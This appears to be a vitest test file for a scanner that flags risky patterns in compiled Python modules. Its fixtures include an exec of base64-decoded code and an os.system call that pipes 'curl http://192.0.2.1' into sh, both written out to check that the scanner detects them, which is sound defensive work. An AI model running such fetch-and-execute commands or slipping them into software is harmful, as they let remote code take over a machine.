import { describe, expect, it } from 'vitest';
import { runCheck } from '../../../../test/builders/check-runner.ts';
import { compiledModule, moduleCode } from '../../../../test/builders/marshal.ts';
import { parseBytes } from '../../../../test/builders/parse-bytes.ts';
import format from '../../../formats/python-bytecode/format.ts';
import { pythonBytecode } from '../../../formats/python-bytecode/python-bytecode.ts';
import check from './check.ts';

async function rulesOf(code: Uint8Array) {
  const parsed = await parseBytes(format, compiledModule(code));
  if (!parsed.ok) throw new Error(parsed.error.detail);
  return (await runCheck(check, [[pythonBytecode, parsed.value]])).map((finding) => finding.rule);
}

describe('checks/bytecode/compiled-module', () => {
  it.each<[string, Uint8Array, string]>([
    [
      'code that is unpacked',
      moduleCode([
        ['base64', 'b64decode', 'aW1wb3J0IG9z'],
        ['', 'exec', 'x'],
      ]),
      'unpacked-code',
    ],
    [
      'a command from the network',
      moduleCode([['os', 'system', 'curl http://192.0.2.1 | sh']]),
      'remote-command',
    ],
    ['a command', moduleCode([['os', 'system', 'git describe']]), 'import-command'],
  ])('reports %s', async (_, code, rule) => {
    expect(await rulesOf(code)).toEqual([`compiled-module/${rule}`]);
  });

  it('stays silent about a module that calls something else', async () => {
    expect(await rulesOf(moduleCode([['collections', 'namedtuple', 'Point']]))).toEqual([]);
  });
});
